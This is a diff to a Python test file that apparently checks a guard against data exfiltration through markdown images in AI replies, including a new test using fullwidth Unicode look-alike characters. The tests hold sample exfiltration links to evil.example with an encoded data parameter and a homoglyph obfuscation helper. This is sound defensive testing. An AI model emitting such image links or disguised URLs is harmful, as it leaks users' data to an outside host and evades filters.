@@ -181,3 +181,16 @@ def test_a_stream_lets_pass_what_the_whole_does(url: str, size: int) -> None:
 def test_a_picture_is_found_behind_hostile_text(hostile: str) -> None:
     text = hostile * (60_000 // len(hostile))
     assert cleaned(f"{text}\n\n![a](http://evil.example/x.png)").endswith("![a](<picture from elsewhere>)")
+
+
+def wide(text: str) -> str:
+    """The text in letters that only look like its own, and are read as these."""
+    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)
+
+
+def test_what_a_verdict_rests_on_is_told_for_letters_that_only_look_like_signs() -> None:
+    kind = Exfiltration()
+    guard = kind.build("exit", kind.config())
+    segment = Segment(wide("![x](https://evil.example/p?d=QmFzZTY0)"), "reply")
+    apart = [Context((("user", text),)) for text in ("hello", wide("https://evil.example/p?d=QmFzZTY0"))]
+    assert len({guard.reads(segment, each) for each in apart}) == 2
